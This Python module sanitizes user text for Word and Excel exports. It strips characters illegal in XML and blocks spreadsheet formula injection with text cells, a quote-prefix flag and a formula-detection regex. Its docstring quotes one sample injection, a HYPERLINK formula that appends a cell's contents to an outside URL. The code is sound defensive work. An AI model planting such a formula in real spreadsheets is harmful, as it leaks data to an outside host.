"""Text as Word and Excel files can hold it.

XML 1.0 forbids most control characters; a name typed or pasted with one (a NUL, a form feed, a stray escape)
must not make a download fail. Writers pass every piece of user text through :func:`xml_safe`.

A spreadsheet cell is worse: text such as ``=HYPERLINK("http://…"&A1,"详情")`` typed as a sheet's title or a
monitoring answer would become a live formula in Excel or LibreOffice (formula injection, CWE-1236). Writers
store user text with :func:`put_text`, which always writes a text cell (``t="inlineStr"``, never ``<f>``): no
spreadsheet program evaluates the text of a text cell. Text that starts like a formula also gets Excel's
*quote prefix* flag, the cell style that an apostrophe typed before the text sets, so that opening the cell to
edit it and pressing Enter keeps it text. The text itself is not changed (OWASP's fallback for CSV, prefixing
a ``'``, would alter what jixiao and its users read back), so jixiao's readers read their exports unchanged.
"""

from __future__ import annotations

import re
from typing import Any

__all__ = ["csv_text", "looks_like_formula", "put_text", "xml_safe"]

# Everything outside XML 1.0's Char production: C0 controls but TAB/LF/CR, lone surrogates, U+FFFE/U+FFFF.
_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
# What a spreadsheet may take as the start of a formula (OWASP CSV injection): = + - @, also after leading
# white space, and a leading TAB or CR.
_FORMULA_START = re.compile(r"^(?:[\t\r]|\s*[=+\-@＝＋－＠])")


def xml_safe(text: str) -> str:
    """``text`` without the characters that XML 1.0 (and so .docx and .xlsx) cannot store."""
    return _ILLEGAL.sub("", text)


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet program could take ``text``, typed into a cell, for a formula."""
    return bool(_FORMULA_START.match(text))


def csv_text(text: str) -> str:
    """A CSV cell that a spreadsheet program shows as text, never runs as a formula: CSV has no cell types, so
    text that could be taken for a formula gets the usual leading quote (OWASP CSV injection)."""
    return f"'{text}" if looks_like_formula(text) else text


def put_text(cell: Any, text: str) -> Any:
    """Store ``text`` in an openpyxl ``cell`` as text, never as a formula or an error code; returns the cell."""
    cell.value = xml_safe(text)
    cell.data_type = "s"  # openpyxl would make "=…" a formula and "#N/A" an error
    if looks_like_formula(cell.value):
        cell.quotePrefix = True
    return cell
